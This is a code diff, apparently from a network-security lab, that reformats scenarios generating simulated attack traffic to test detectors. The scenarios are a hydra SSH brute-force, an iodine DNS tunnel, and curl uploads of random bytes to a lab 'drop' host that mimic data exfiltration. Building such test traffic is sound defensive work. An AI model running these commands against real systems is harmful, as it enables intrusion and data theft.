@@ -99,7 +99,18 @@ interface Scenario {
 }
 
 const host = (name: string) => OFFICE_HOSTS.find((h) => h.name === name)!;
-const curl = (files: LabFiles, url: string, ...extra: string[]) => ['curl', '-sS', '--max-time', '60', '--cacert', files.caCert, '-o', '/dev/null', ...extra, url];
+const curl = (files: LabFiles, url: string, ...extra: string[]) => [
+  'curl',
+  '-sS',
+  '--max-time',
+  '60',
+  '--cacert',
+  files.caCert,
+  '-o',
+  '/dev/null',
+  ...extra,
+  url,
+];
 const between = (ctx: ScenarioContext, min: number, max: number) => min + (max - min) * ctx.random();
 
 /**
@@ -138,8 +149,23 @@ const SCENARIOS: Scenario[] = [
           await ctx.on(ws.name, curl(ctx.files, `https://${site.name}/`), 60_000);
         }
       });
-      const admin = ctx.on('ws1', ['ssh', '-i', ctx.files.sshKey, '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
-        `root@${FILE_SERVER.ip}`, 'uname -a; uptime; df -h /; ls -la /etc | head -50; sleep 5'], 60_000);
+      const admin = ctx.on(
+        'ws1',
+        [
+          'ssh',
+          '-i',
+          ctx.files.sshKey,
+          '-o',
+          'BatchMode=yes',
+          '-o',
+          'StrictHostKeyChecking=no',
+          '-o',
+          'UserKnownHostsFile=/dev/null',
+          `root@${FILE_SERVER.ip}`,
+          'uname -a; uptime; df -h /; ls -la /etc | head -50; sleep 5',
+        ],
+        60_000,
+      );
       const download = ctx.on('ws3', curl(ctx.files, `https://${INTERNET.mirror.name}/bytes/${100 * 1024 * 1024}`, '--limit-rate', UPLINK_RATE), 120_000);
       await Promise.all([...browse, admin, download]);
     },
@@ -158,7 +184,11 @@ const SCENARIOS: Scenario[] = [
       const words = join(ctx.files.dir, 'passwords.txt');
       writeFileSync(words, Array.from({ length: HYDRA_PASSWORDS }, (_, i) => `guess${i}`).join('\n') + '\n');
       // -I: no restore file from an earlier run; hydra writes it to its working directory.
-      await ctx.on(ctx.plan.attackers.bruteforce, ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`], 150_000);
+      await ctx.on(
+        ctx.plan.attackers.bruteforce,
+        ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`],
+        150_000,
+      );
     },
   },
   {
@@ -169,14 +199,21 @@ const SCENARIOS: Scenario[] = [
       // -r: only through the resolver (no raw UDP straight to iodined), as a tunnel out of an
       // office whose only way out is its DNS server would go.
       const iodine = ctx.cleanup.daemon(
-        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], { ns: ctx.names.hosts[ws], logFile: join(ctx.files.dir, 'iodine.log') }),
+        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], {
+          ns: ctx.names.hosts[ws],
+          logFile: join(ctx.files.dir, 'iodine.log'),
+        }),
       );
       try {
         await waitForOutput(iodine, /Connection setup complete/, 60_000);
         // The tunnel carries what a tunnel is for: a file sent to a site reached through it
         // (a host route on that workstation only), then a while of pings.
         await ctx.on(ws, ['ip', 'route', 'add', `${TUNNELED_SITE.ip}/32`, 'via', TUNNEL.serverIp], 10_000);
-        await ctx.on(ws, ['sh', '-c', `head -c ${ctx.plan.tunnelBytes} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`], 70_000);
+        await ctx.on(
+          ws,
+          ['sh', '-c', `head -c ${ctx.plan.tunnelBytes} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`],
+          70_000,
+        );
         await ctx.on(ws, ['ping', '-q', '-c', String(TUNNEL_PINGS), '-i', '0.5', '-s', '400', TUNNEL.serverIp], TUNNEL_PINGS * 1_000 + 30_000);
       } catch (error) {
         ctx.log(`dns-tunnel: ${(error as Error).message}`);
@@ -201,7 +238,15 @@ const SCENARIOS: Scenario[] = [
     name: 'exfil',
     opens: { detector: 'exfil', destination: INTERNET.drop.organization },
     async play(ctx) {
-      await ctx.on(ctx.plan.attackers.exfil, ['sh', '-c', `head -c ${ctx.plan.exfilBytes} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
+      await ctx.on(
+        ctx.plan.attackers.exfil,
+        [
+          'sh',
+          '-c',
+          `head -c ${ctx.plan.exfilBytes} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`,
+        ],
+        240_000,
+      );
     },
   },
 ];
